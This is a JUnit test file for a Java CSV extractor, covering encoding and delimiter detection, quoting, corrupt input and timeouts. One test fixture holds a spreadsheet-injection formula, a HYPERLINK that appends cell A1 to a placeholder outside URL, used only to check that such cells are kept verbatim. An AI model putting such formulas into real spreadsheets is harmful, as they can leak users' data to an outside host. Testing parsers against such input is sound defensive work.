package io.foilint.extract.csv;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.foilint.extract.ExtractionContext;
import io.foilint.extract.ExtractionException;
import io.foilint.extract.ExtractionException.Reason;
import io.foilint.extract.Limits;
import io.foilint.model.Cell;
import io.foilint.model.Location;
import io.foilint.model.TableOrigin;
import io.foilint.model.Visibility;
import io.foilint.testing.RecordingHandler;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class CsvExtractorTest {

  @TempDir Path dir;

  /** An encoding under test: how the text is written and what detection must report. */
  enum Encoding {
    UTF8(StandardCharsets.UTF_8, new byte[0], StandardCharsets.UTF_8),
    UTF8_BOM(StandardCharsets.UTF_8, new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, StandardCharsets.UTF_8),
    UTF16LE_BOM(StandardCharsets.UTF_16LE, new byte[] {(byte) 0xFF, (byte) 0xFE}, StandardCharsets.UTF_16LE),
    UTF16BE_BOM(StandardCharsets.UTF_16BE, new byte[] {(byte) 0xFE, (byte) 0xFF}, StandardCharsets.UTF_16BE),
    UTF16LE_NO_BOM(StandardCharsets.UTF_16LE, new byte[0], StandardCharsets.UTF_16LE),
    UTF16BE_NO_BOM(StandardCharsets.UTF_16BE, new byte[0], StandardCharsets.UTF_16BE),
    WINDOWS_1252(Charset.forName("windows-1252"), new byte[0], Charset.forName("windows-1252"));

    final Charset writeAs;
    final byte[] bom;
    final Charset expected;

    Encoding(Charset writeAs, byte[] bom, Charset expected) {
      this.writeAs = writeAs;
      this.bom = bom;
      this.expected = expected;
    }
  }

  static Stream<Arguments> matrix() {
    List<Arguments> args = new ArrayList<>();
    for (char d : new char[] {',', ';', '\t', '|'}) {
      for (Encoding e : Encoding.values()) {
        args.add(Arguments.of(d, e));
      }
    }
    return args.stream();
  }

  private Path write(String name, Encoding encoding, String text) throws Exception {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    bytes.write(encoding.bom);
    bytes.write(text.getBytes(encoding.writeAs));
    return Files.write(dir.resolve(name), bytes.toByteArray());
  }

  private static RecordingHandler extract(Path file) throws Exception {
    RecordingHandler h = new RecordingHandler();
    new CsvExtractor().extract(file, ExtractionContext.standalone(), h);
    return h;
  }

  private static String value(RecordingHandler h, String ref) {
    return h.tables.get(0).cell(ref).map(Cell::value).orElse(null);
  }

  @ParameterizedTest(name = "delimiter {0} in {1}")
  @MethodSource("matrix")
  void delimiterAndEncodingMatrix(char d, Encoding encoding) throws Exception {
    String text = String.join("\n",
        "Name" + d + "City" + d + "Amount",
        "Zoë Brontë" + d + "\"Cost " + d + " £5\"" + d + "£10",
        "José" + d + "Paris" + d + "café",
        "Ann" + d + "Leeds" + d + "3") + "\n";
    Path f = write("m.csv", encoding, text);
    CsvDialect dialect = CsvDialect.detect(f);
    assertThat(dialect.delimiter()).isEqualTo(d);
    assertThat(dialect.charset()).isEqualTo(encoding.expected);
    assertThat(dialect.bomLength()).isEqualTo(encoding.bom.length);
    RecordingHandler h = extract(f);
    assertThat(value(h, "A1")).isEqualTo("Name");
    assertThat(value(h, "A2")).isEqualTo("Zoë Brontë");
    assertThat(value(h, "B2")).isEqualTo("Cost " + d + " £5");
    assertThat(value(h, "C2")).isEqualTo("£10");
    assertThat(value(h, "A3")).isEqualTo("José");
    assertThat(value(h, "C3")).isEqualTo("café");
    assertThat(h.tables.get(0).rows()).hasSize(4).allMatch(r -> r.cells().size() == 3);
  }

  @Test
  void tableStartAndCellShape() throws Exception {
    Path f = Files.writeString(dir.resolve("staff.csv"), "a,b\n1,2\n");
    RecordingHandler h = extract(f);
    assertThat(h.tables).singleElement().satisfies(t -> {
      assertThat(t.start().origin()).isEqualTo(TableOrigin.CSV);
      assertThat(t.start().name()).isEqualTo("staff.csv");
      assertThat(t.start().location()).isEqualTo(Location.of(""));
      assertThat(t.start().visibility()).isEqualTo(Visibility.VISIBLE);
      assertThat(t.cells()).allMatch(c -> c.visibility() == Visibility.VISIBLE && !c.formula());
    });
    assertThat(h.tables.get(0).cell("B2").orElseThrow().column()).isEqualTo(1);
    assertThat(h.facts).isEmpty();
  }

  @Test
  void quotedNewlinesDelimitersAndEscapedQuotes() throws Exception {
    Path f = Files.writeString(dir.resolve("q.csv"),
        "id,note,other\r\n1,\"line one\r\nline two\",x\r\n2,\"a, b and \"\"c\"\"\",y\r\n3,plain,z\r\n");
    RecordingHandler h = extract(f);
    assertThat(value(h, "B2")).isEqualTo("line one\nline two");
    assertThat(value(h, "B3")).isEqualTo("a, b and \"c\"");
    assertThat(value(h, "C4")).isEqualTo("z");
  }

  @Test
  void emptyLinesKeepRowNumbersButEmitNoRow() throws Exception {
    Path f = Files.writeString(dir.resolve("e.csv"), "a,b\n\n,,\nc,d\n");
    RecordingHandler h = extract(f);
    assertThat(h.tables.get(0).rows()).extracting(r -> r.index()).containsExactly(0, 3);
    assertThat(value(h, "A4")).isEqualTo("c");
  }

  @Test
  void formulaLikeCellsAreVerbatim() throws Exception {
    Path f = Files.writeString(dir.resolve("f.csv"),
        "a,b,c,d\n\"=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"click\"\")\",+1+1,-2+3,@SUM(1)\n");
    RecordingHandler h = extract(f);
    assertThat(value(h, "A2")).isEqualTo("=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")");
    assertThat(value(h, "B2")).isEqualTo("+1+1");
    assertThat(value(h, "C2")).isEqualTo("-2+3");
    assertThat(value(h, "D2")).isEqualTo("@SUM(1)");
  }

  @Test
  void backslashesAreNotEscapes() throws Exception {
    Path f = Files.writeString(dir.resolve("b.csv"), "path,x\nC:\\new\\table,1\n");
    assertThat(value(extract(f), "A2")).isEqualTo("C:\\new\\table");
  }

  @Test
  void singleColumnFileDefaultsToComma() throws Exception {
    Path f = Files.writeString(dir.resolve("one.csv"), "name\nAnn\nBob\n");
    assertThat(CsvDialect.detect(f).delimiter()).isEqualTo(',');
    assertThat(value(extract(f), "A3")).isEqualTo("Bob");
  }

  @Test
  void commaWinsOverStraySemicolons() throws Exception {
    Path f = Files.writeString(dir.resolve("s.csv"), "a,b,c\n1;x,2,3\n4,5,6\n7,8,9;y\n");
    assertThat(CsvDialect.detect(f).delimiter()).isEqualTo(',');
  }

  @Test
  void unterminatedQuoteIsCorruptWithItsLine() throws Exception {
    Path f = Files.writeString(dir.resolve("u.csv"), "a,b\n1,2\n3,\"Secret Person\n4,5\n6,7\n");
    RecordingHandler h = new RecordingHandler();
    assertThatThrownBy(() -> new CsvExtractor().extract(f, ExtractionContext.standalone(), h))
        .isInstanceOf(ExtractionException.class)
        .satisfies(e -> {
          assertThat(((ExtractionException) e).reason()).isEqualTo(Reason.CORRUPT);
          assertThat(e.getMessage()).contains("line 3").doesNotContain("Secret Person");
        });
    // what could be read before the break was reported
    assertThat(h.tables.get(0).rows()).hasSize(2);
  }

  @Test
  void binaryContentIsNotText() throws Exception {
    byte[] junk = new byte[4096];
    for (int i = 0; i < junk.length; i++) {
      junk[i] = (byte) (i % 7 == 0 ? 0 : (i * 31) & 0x7F);
    }
    Path f = Files.write(dir.resolve("bin.csv"), junk);
    assertThatThrownBy(() -> extract(f))
        .isInstanceOf(ExtractionException.class)
        .satisfies(e -> {
          assertThat(((ExtractionException) e).reason()).isEqualTo(Reason.UNSUPPORTED);
          assertThat(e.getMessage()).contains("not a text file");
        });
  }

  @Test
  void invalidUtf8FallsBackToWindows1252() throws Exception {
    Path f = Files.write(dir.resolve("w.csv"), "name;price\nCrème;£3\n".getBytes(Charset.forName("windows-1252")));
    assertThat(CsvDialect.detect(f).charset()).isEqualTo(Charset.forName("windows-1252"));
    assertThat(value(extract(f), "A2")).isEqualTo("Crème");
  }

  @Test
  void multibyteCharacterCutByTheSampleIsStillUtf8() throws Exception {
    StringBuilder sb = new StringBuilder("a,b\n");
    while (sb.length() < CsvDialect.SAMPLE_BYTES) {
      sb.append("é,ü\n");
    }
    Path f = Files.writeString(dir.resolve("long.csv"), sb.toString(), StandardCharsets.UTF_8);
    assertThat(CsvDialect.detect(f).charset()).isEqualTo(StandardCharsets.UTF_8);
  }

  @Test
  void deadlineIsChecked() throws Exception {
    Path f = Files.writeString(dir.resolve("d.csv"), "x,y\n".repeat(5000));
    ExtractionContext expired = new ExtractionContext() {
      @Override
      public Limits limits() {
        return Limits.DEFAULT;
      }

      @Override
      public void embedded(String name, InputStream content) {}

      @Override
      public void checkDeadline() throws ExtractionException {
        throw new ExtractionException(Reason.TIMEOUT, "time is up");
      }
    };
    assertThatThrownBy(() -> new CsvExtractor().extract(f, expired, new RecordingHandler()))
        .isInstanceOf(ExtractionException.class)
        .satisfies(e -> assertThat(((ExtractionException) e).reason()).isEqualTo(Reason.TIMEOUT));
  }
}
